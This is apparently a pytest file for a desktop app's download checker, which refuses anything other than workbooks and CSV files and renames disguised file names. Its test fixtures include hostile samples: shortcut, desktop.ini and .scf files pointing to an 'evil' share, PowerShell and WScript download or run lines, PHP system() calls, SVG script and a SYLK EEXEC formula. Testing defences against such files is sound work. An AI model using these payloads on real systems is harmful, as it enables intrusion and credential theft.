"""Only workbooks and CSV files get into the user's folders, under names that say so."""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from knosc_desktop.demo.workbooks import write_workbook
from knosc_desktop.domain.errors import FileProblem, KnoscError, NotFound
from knosc_desktop.domain.files import Download, TemplateLink
from knosc_desktop.domain.texts import first_sentence, message
from knosc_desktop.domain.triggers import UPLOAD_TRIGGERS
from knosc_desktop.services.files.downloads import Downloads, TemplateOutcome, checked
from knosc_desktop.words.catalogue import render
from tests.support.compound_files import compound


def workbook() -> bytes:
    made = io.BytesIO()
    write_workbook(made, "Template", ("_Action", "_ItemNumber"))
    return made.getvalue()


def zipped(**parts: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


WORKBOOK = workbook()
PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"This program cannot be run in DOS mode.\r\n" * 5000
)
LINK = (
    b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
    + b"\\\\evil\\share\\x.exe, a, b\r\n" * 9000
)
HARMFUL = {
    "program": PROGRAM,
    "program that is a table, too": b"MZ\x90\x00" + b"a,b,c\r\n" * 30_000,
    "program for Linux": b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"a,b\n" * 30_000,
    "program with a workbook behind it": PROGRAM + WORKBOOK,
    "link": LINK,
    "folder view": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\share\\x.ico\r\n",
    "folder settings": b"[.ShellClassInfo]\r\nIconResource=\\\\evil\\share,1\r\nConfirmFileOp=0,0\r\n",
    "folder settings in UTF-16": "[.ShellClassInfo]\r\nIconResource=\\\\evil\\share,1\r\n".encode("utf-16"),
    "folder settings in UTF-16 without a mark": "[.ShellClassInfo]\r\nInfoTip=x\r\n".encode("utf-16-le"),
    "folder settings with a mark": b"\xef\xbb\xbf[.ShellClassInfo]\r\nIconFile=a,b\r\n",
    "folder settings below a remark": b"; a, b\r\n[.ShellClassInfo]\r\nIconFile=x\r\nInfoTip=y\r\nConfirmFileOp=0\r\n",
    "web address": b"[InternetShortcut]\r\nURL=file://evil/x.exe\r\n",
    "menu entry": b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
    "set-up": b"[Version]\nSignature=$CHICAGO$\n",
    "registry": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a,b]\r\n",
    "page": b"<html><body>a,b</body></html>",
    "page without a head": b"<p>a,b\n<p>c,d\n",
    "application page": b"<hta:application>a,b\n",
    "picture that is a page": b"<svg onload=alert(1)>,b\n",
    "PHP": b"<?php system('id'), 1; ?>\n",
    "library": b'<?xml version="1.0"?><libraryDescription/>',
    "PDF": b"%PDF-1.7\n1 0 obj, 2\n",
    "PostScript": b"%!PS-Adobe\na,b\n",
    "shell script": b"#!/bin/sh\necho a, b\n",
    "batch file": b"@echo off\r\nstart a.exe, b\r\n",
    "batch file with a remark": b"REM a,b\r\nstart x,y\r\n",
    "batch file of a line": b"start \\\\evil\\share\\x.exe\r\n",
    "PowerShell": b"$a = New-Object Net.WebClient\r\n$a.DownloadString('x')\r\n",
    "Visual Basic": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
    "JavaScript": b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc");\r\n',
    "Python": b"import os, sys\nos.system('id')\nprint()\n",
    "remote desktop": b"full address:s:evil.example\r\nprompt for credentials:i:0\r\n",
    "Multiplan file": b'ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;EEXEC("calc")\r\nE\r\n',
    "query of the web": b"WEB\r\n1\r\nhttp://evil.example/x\r\n",
    "calendar": b"BEGIN:VCALENDAR\r\nATTACH:http://evil.example, a\r\n",
    "JSON": b'{"message": "no, such, file"}',
    "JSON list": b'[{"a": 1, "b": 2}]',
    "rich text": b"{\\rtf1 a, b}",
    "old workbook": compound({"Workbook": None}),
    "e-mail": compound({"__properties_version1.0": None}),
    "installer": compound({"Property": None}),
    "archive": zipped(**{"Setup.exe": PROGRAM}),
    "document": zipped(**{"word/document.xml": b"<w/>"}),
    "Java program": zipped(**{"META-INF/MANIFEST.MF": b"Main-Class: X"}),
    "workbook with macros": zipped(
        **{"[Content_Types].xml": b"application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/vbaProject.bin": b"x"}
    ),
    "broken workbook": WORKBOOK[: len(WORKBOOK) // 2],
    "packed table": b"\x1f\x8b\x08\x00" + bytes(20),
    "picture": b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR,a,b\n" * 9000,
    "noise": bytes(range(256)) * 64,
}


def fetched(folder: Path, content: bytes, name: str) -> Download:
    path = folder / "fetched"
    path.write_bytes(content)
    return Download(path, name, len(content), "")


@pytest.mark.parametrize("content", HARMFUL.values(), ids=HARMFUL)
@pytest.mark.parametrize("name", ["forecast.xlsx", "forecast.csv"])
def test_what_is_no_workbook_and_no_table_is_refused_and_deleted(tmp_path: Path, content: bytes, name: str) -> None:
    with pytest.raises(FileProblem) as refused:
        checked(fetched(tmp_path, content, name))

    assert refused.value.problem.title == message("files.download.harmful.title")
    assert first_sentence(refused.value.message) == message("files.download.harmful.message")
    assert "files." not in refused.value.details
    assert refused.value.details.startswith(f"{len(content)} bytes")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("forecast.xlsx", "forecast.xlsx"),
        ("Forecast.XLSX", "Forecast.xlsx"),
        ("Setup.exe", "Setup.xlsx"),
        ("@x.scf", "@x.xlsx"),
        ("desktop.ini", "desktop.xlsx"),
        ("forecast.xlsx.exe", "forecast.xlsx"),
        ("forecast.csv", "forecast.xlsx"),
        ("forecast.xlsm", "forecast.xlsx"),
        ("no ending", "no ending.xlsx"),
        ("release 1.10", "release 1.10.xlsx"),
        ("con .exe", "_con.xlsx"),
        ("x .exe", "x.xlsx"),
    ],
)
def test_a_workbook_gets_the_ending_of_one(tmp_path: Path, name: str, kept: str) -> None:
    assert checked(fetched(tmp_path, WORKBOOK, name)).file_name == kept


@pytest.mark.parametrize(
    "content",
    [
        b"_Action,_ItemNumber\n",
        b"_Action;_ItemNumber\r\nADD;007\r\n",
        "_Action\t_ItemNumber\r\n".encode("utf-16"),
        "_Action;_Menge\r\nADD;1,5\r\n".encode("utf-16-le"),
        b"\xef\xbb\xbf_ItemNumber|_Name\nA|B\n",
        b"sep=;\r\n_ItemNumber;_Name\r\n",
        b"Report of May\r\n\r\n_ItemNumber,_Name\r\nA,B\r\nC,D\r\n",
        b"#,Item\n1,A\n",
        b'"#!","Item"\n1,A\n',
        b"[Item],[Quantity]\nA,1\n",
        b"ID;Price;Name\n1;2;x\n",
        b"ID;Part;Name\nBolt;2;x\n",
        b"MZ,Qty\n1,2\n",
        b"Rem,Qty\n1,2\n",
        b"_ItemNumber,_Remark\nA-1,\nA-2,\nA-3,\n",
        b'_ItemNumber,_Remark\nA-1,"two\nlines\nof\ntext\nin\none\ncell"\n',
        b"_ItemNumber,_Name\nA,bad \x00 byte\n" + b"A,B\n" * 100,
        b"_UnitName\npiece\nbox\n",
        b"Unit\npiece of 10\n",
        b"a\n1\n",
        "Größe,Länge\n1,2\n".encode("cp1252"),
        ",".join(f"column {number}" for number in range(20_000)).encode(),
    ],
    ids=lambda content: repr(content[:24]),
)
def test_a_table_in_text_gets_the_ending_of_a_csv_file(tmp_path: Path, content: bytes) -> None:
    assert checked(fetched(tmp_path, content, "forecast.xlsx")).file_name == "forecast.csv"


class FakeClient:
    """A Knosc that calls every template as it likes."""

    def __init__(self, templates: list[tuple[str, bytes]]) -> None:
        self._templates = dict(zip((trigger.name for trigger in UPLOAD_TRIGGERS), templates, strict=False))

    async def templates(self) -> dict[str, TemplateLink]:
        return {
            name: TemplateLink(name, "https://elsewhere.example/x", called)
            for name, (called, _) in self._templates.items()
        }

    async def download_template(self, link: TemplateLink, target: Path) -> Download:
        target.write_bytes(self._templates[link.trigger][1])
        return Download(target, link.file_name, target.stat().st_size, "")

    async def download_last_upload(self, trigger: str, target: Path) -> Download:
        return await self.download_template(TemplateLink(trigger, "", self._templates[trigger][0]), target)


class FakeSession:
    def __init__(self, client: FakeClient) -> None:
        self._client = client

    async def call(self, action: Callable[[FakeClient], Awaitable[Any]]) -> Any:
        return await action(self._client)


def downloads_of(tmp_path: Path, *templates: tuple[str, bytes]) -> Downloads:
    return Downloads(FakeSession(FakeClient(list(templates))), tmp_path / "profile")  # type: ignore[arg-type]


async def all_in(downloads: Downloads, folder: Path) -> list[TemplateOutcome]:
    outcomes: list[TemplateOutcome] = []
    await downloads.all_templates(folder, outcomes.append)
    return [outcome for outcome in outcomes if outcome.saved or outcome.problem.title != NotFound.title]  # type: ignore[union-attr]


async def test_all_templates_writes_nothing_harmful_into_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "own"
    folder.mkdir()
    downloads = downloads_of(
        tmp_path,
        ("Setup.exe", PROGRAM),
        ("@x.scf", HARMFUL["folder view"]),
        ("desktop.ini", HARMFUL["folder settings"]),
        ("Setup.exe", WORKBOOK),
    )

    outcomes = await all_in(downloads, folder)

    assert [path.name for path in folder.iterdir()] == ["Setup.xlsx"]
    assert [outcome.saved is not None for outcome in outcomes] == [False, False, False, True]


@pytest.mark.parametrize(
    "names",
    [
        ("Forecast.xlsx", "forecast.xlsx"),
        ("größe.xlsx", "gro\u0308ße.xlsx"),
        ("a.csv", "A.XLSX"),
        ("ﬁle.xlsx", "FIle.xlsx"),
    ],
)
async def test_names_that_some_system_takes_for_one_are_two_files(tmp_path: Path, names: tuple[str, str]) -> None:
    folder = tmp_path / "own"
    folder.mkdir()

    outcomes = await all_in(downloads_of(tmp_path, *((name, WORKBOOK) for name in names)), folder)

    kept = sorted(path.name.casefold() for path in folder.iterdir())
    assert len(kept) == len(outcomes) == 2
    assert any(name.endswith(" (2).xlsx") for name in kept)


@pytest.mark.skipif(sys.platform == "win32", reason="links need rights there")
async def test_a_link_in_the_folder_is_not_written_through(tmp_path: Path) -> None:
    folder = tmp_path / "own"
    folder.mkdir()
    (folder / "forecast.xlsx").symlink_to(tmp_path / "elsewhere")

    await all_in(downloads_of(tmp_path, ("forecast.xlsx", WORKBOOK)), folder)

    assert not (tmp_path / "elsewhere").exists()
    assert (folder / "forecast (2).xlsx").read_bytes() == WORKBOOK


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (HARMFUL["PDF"], "“forecast.xlsx” is a PDF."),
        (HARMFUL["shell script"], "“forecast.xlsx” is a text without a table."),
    ],
)
def test_what_knosc_sent_in_place_of_a_workbook_is_said_in_words(tmp_path: Path, content: bytes, said: str) -> None:
    with pytest.raises(FileProblem) as refused:
        checked(fetched(tmp_path, content, "forecast.xlsx"))

    assert render(refused.value.message).endswith(said)
    assert content[:4].hex(" ") in refused.value.details


@pytest.mark.parametrize("what", ["template", "last_upload"])
async def test_one_harmful_download_is_rejected_with_a_message(tmp_path: Path, what: str) -> None:
    trigger = UPLOAD_TRIGGERS[0].name
    downloads = downloads_of(tmp_path, ("forecast.xlsx", PROGRAM))

    with pytest.raises(KnoscError) as refused:
        await getattr(downloads, what)(trigger)
    assert first_sentence(refused.value.message) == message("files.download.harmful.message")
